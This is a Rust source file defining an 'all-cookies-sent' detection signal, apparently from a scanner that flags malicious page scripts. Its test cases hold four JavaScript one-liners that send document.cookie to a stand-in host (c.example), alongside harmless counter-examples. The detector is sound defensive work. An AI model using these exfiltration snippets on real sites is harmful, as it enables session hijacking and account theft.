//! `all-cookies-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "all-cookies-sent",
    description: "The script sends all cookies of this page to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AllCookiesSent])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "new Image().src='https://c.example/?c='+document.cookie",
            "location='https://c.example/?'+escape(document.cookie)",
            "var h=document.createElement('iframe');var c=document.cookie;h.src='https://c.example/'+encodeURI(c)",
            "document.write('<img src=\"https://c.example/?c='+document.cookie+'\">')",
        ],
        without: &[
            "var m=document.cookie.match(/_ga=([^;]+)/);new Image().src='https://p.example/t?id='+m[1]",
            "function get(n){var v='; '+document.cookie,p=v.split('; '+n+'=');return p[1]}new Image().src='https://p.example/t?'+get('id')",
            "fetch('/api/me',{headers:{'X-CSRFToken':document.cookie.split('csrftoken=')[1]}})",
            "function get(n){var m=new RegExp(n+'=([^;]*)').exec(document.cookie);return m&&m[1]}fetch('https://p.example/t?id='+get('uid'))",
        ],
    },
};
